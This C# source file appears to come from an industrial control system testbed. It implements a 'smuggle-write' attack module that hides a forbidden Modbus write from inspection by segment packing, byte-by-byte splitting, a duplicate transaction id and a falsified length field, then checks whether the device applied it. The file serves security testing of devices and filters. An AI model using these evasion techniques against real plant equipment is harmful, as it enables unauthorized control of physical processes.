using Testbed.Core;
using Testbed.Modbus;
using Testbed.Scenarios;
using static Testbed.Core.FoundationalRequirement;

namespace Testbed.Attacks;

/// <summary>
/// T0855 Unauthorized Command Message, hidden from inspection: a forbidden write behind an allowed read in one segment, split at every byte, under a
/// transaction
/// id already in flight, and behind a length field that lies. Breach: the device applies it by any of these.
/// </summary>
public sealed class SmuggleWrite() : Technique("smuggle-write", "T0855", "point value", [Uc, Rdf], [Uc])
{
    /// <inheritdoc/>
    internal override async Task<StepOutcome> RunAsync(StepContext context)
    {
        if (context.Service(ServiceProtocol.Modbus) is not { } service || PointChoice.Point(context, service) is not { } target)
        {
            return StepOutcome.Absent($"{context.Target.Id} has no such point.");
        }

        var read = context.Vantage.Zone == context.Target.Zone ? StormInZone.ReadOfFirstPoint(context.Target) : AllowedRead(context) ?? [3, 0, 0, 0, 1];
        foreach (var trick in new[] { "one-segment", "every-byte", "duplicate-id", "lying-length" })
        {
            var raw = PointChoice.Value(context, target);
            using var link = await context.ModbusAsync();
            if (link is null)
            {
                return StepOutcome.Nothing($"{context.Target.Id} could not be reached.");
            }

            Act(context, $"{trick}: {target.Point.Name} of {context.Target.Id}");
            foreach (var segment in Segments(trick, link.Unit, read, ModbusLink.WritePdu(target, raw)))
            {
                if (!(await link.Client.SendRawAsync(segment)).IsOk)
                {
                    break;
                }
            }

            await context.Range.WaitAsync(AttackTimes.Settle(context.Target));
            var judged = await Written.JudgeAsync(context, service, target, raw, connected: true);
            if (judged.Breach != BreachKind.None)
            {
                return judged with { Text = $"{judged.Text} It was hidden by {trick}." };
            }
        }

        return StepOutcome.Nothing($"No hidden write of {target.Point.Name} was applied.");
    }

    private static byte[]? AllowedRead(StepContext context) => context.Range.Scenario.Flows(ServiceProtocol.Modbus)
        .Where(f => f.From.Id == context.Vantage.From && f.To.Id == context.Target.Id)
        .Select(f => SpanSubject.ForFlow(f, write: false)?.ReadPdu()).FirstOrDefault(p => p is not null);

    /// <summary>The writes to the stream, one after another.</summary>
    internal static IEnumerable<byte[]> Segments(string trick, byte unit, byte[] read, byte[] write)
    {
        var first = ModbusFrame.ToAdu(1, unit, read);
        switch (trick)
        {
            case "one-segment":
                return [[.. first, .. ModbusFrame.ToAdu(2, unit, write)]];
            case "every-byte":
                return ModbusFrame.ToAdu(1, unit, write).Select(b => new[] { b });
            case "duplicate-id":
                return [first, ModbusFrame.ToAdu(1, unit, write)];
            default:
                // The read claims to be as long as both: a lax reader skips by content and finds the write, a strict one sees one broken request.
                var second = ModbusFrame.ToAdu(2, unit, write);
                var liar = first.ToArray();
                liar[5] = (byte)(liar[5] + second.Length);
                return [[.. liar, .. second]];
        }
    }
}
